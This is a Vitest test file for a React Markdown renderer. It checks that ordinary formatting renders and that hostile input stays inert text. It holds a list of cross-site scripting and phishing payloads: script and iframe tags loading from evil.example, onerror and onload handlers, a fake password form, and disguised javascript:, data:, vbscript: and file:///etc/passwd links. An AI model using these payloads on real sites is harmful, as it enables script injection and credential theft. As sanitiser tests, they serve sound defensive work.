import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { Markdown } from "./markdown";

function html(text: string) {
  return renderToStaticMarkup(<Markdown>{text}</Markdown>);
}

/** Returns the tags and attributes that reach the page, without the words. */
function tags(text: string) {
  return html(text).match(/<[a-z][^>]*>/g) ?? [];
}

describe("the texts of admins and evaluators are rendered", () => {
  test.each([
    ["**gras** et *nuance*", "<strong>gras</strong> et <em>nuance</em>"],
    ["1. un\n2. deux", "<ol"],
    ["- un\n- deux", "<ul"],
    ["> cité", "<blockquote"],
    ["## Prix", "<h3>Prix</h3>"],
    ["[site](https://example.org/a?b=1)", 'href="https://example.org/a?b=1"'],
    ["[page](/video/12)", 'href="/video/12"'],
    ["[mail](mailto:a@example.org)", 'href="mailto:a@example.org"'],
    ["![plan](/media/plan.png)", 'src="/media/plan.png"'],
    ["5 < 6 & 7", "5 &lt; 6 &amp; 7"],
  ])("it has its elements: %s", (text, expected) => expect(html(text)).toContain(expected));

  test("links open nothing of ours", () => {
    expect(html("[site](https://example.org)")).toContain('rel="noopener noreferrer nofollow"');
  });
  test("no line begins with a double sign, and code stays as it was typed", () => {
    const text = html("Le serveur **garde** la main : il conseille `a : b`");
    expect(text).toContain("la main\u00a0: il conseille");
    expect(text).toContain("<strong>garde</strong>");
    expect(text).toMatch(/<code[^>]*>a : b<\/code>/);
  });
  test("a heading brings no id of its own", () => {
    expect(html("# content\n\ntexte")).not.toContain("id=");
  });
});

const hostile = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<iframe src='https://evil.example'></iframe>",
  "<base href='https://evil.example/'>",
  "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>*{display:none}</style>",
  "<form action='https://evil.example'><input name=password></form>",
  "<a href='javascript:alert(1)'>x</a>",
  "<object data='x'></object><embed src='x'>",
  "<details open ontoggle=alert(1)>",
  "<div style='position:fixed;inset:0'>x</div>",
  "text <b onclick=alert(1)>inline</b> text",
  "- item\n\n  <script>alert(1)</script>",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "> <iframe src=//evil.example></iframe>",
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  "[^1]\n\n[^1]: <script>alert(1)</script>",
];

describe("raw HTML stays text", () => {
  test.each(hostile)("it makes no element: %s", (text) => {
    const written = tags(text).join("\n");
    expect(written).not.toMatch(
      /<(script|iframe|base|meta|link|style|form|input|object|embed|svg|img|details)\b/i,
    );
    expect(written).not.toMatch(/\son[a-z]+=|style=|evil\.example|javascript:/i);
  });
});

describe("a dropped address leaves its words", () => {
  test.each([
    "[mot](javascript:alert(1))",
    "[mot](JaVaScRiPt:alert(1))",
    "[mot](  javascript:alert(1))",
    "[mot](java\tscript:alert(1))",
    "[mot](javascript&#58;alert(1))",
    "[mot](javascript&colon;alert(1))",
    "[mot](%6Aavascript:alert(1) 'x')",
    "[mot](data:text/html,<script>alert(1)</script>)",
    "[mot](data:text/html;base64,PHNjcmlwdD4=)",
    "[mot](vbscript:msgbox(1))",
    "[mot](file:///etc/passwd)",
    "[mot](blob:https://example.org/1)",
    "[mot][a]\n\n[a]: javascript:alert(1)",
    "<javascript:alert(1)>",
  ])("it is dropped from this: %s", (text) => {
    const hrefs = html(text).match(/href="[^"]*"/g) ?? [];
    for (const href of hrefs) expect(href).not.toMatch(/:(?!\/\/)/);
    expect(html(text)).toMatch(/mot|javascript/);
    expect(tags(text).join("")).not.toMatch(/javascript:|data:|vbscript:|file:|blob:/i);
  });
});

describe("an image comes from this site, or is its words", () => {
  test.each([
    "![schéma](https://evil.example/pixel.png)",
    "![schéma](http://evil.example/pixel.png)",
    "![schéma](//evil.example/pixel.png)",
    "![schéma](/\\evil.example/pixel.png)",
    "![schéma](data:image/svg+xml;base64,PHN2Zz4=)",
    "![schéma](javascript:alert(1))",
    "![schéma][i]\n\n[i]: https://evil.example/pixel.png",
  ])("it is words here: %s", (text) => {
    expect(html(text)).not.toContain("<img");
    expect(html(text)).toContain("schéma");
  });
});
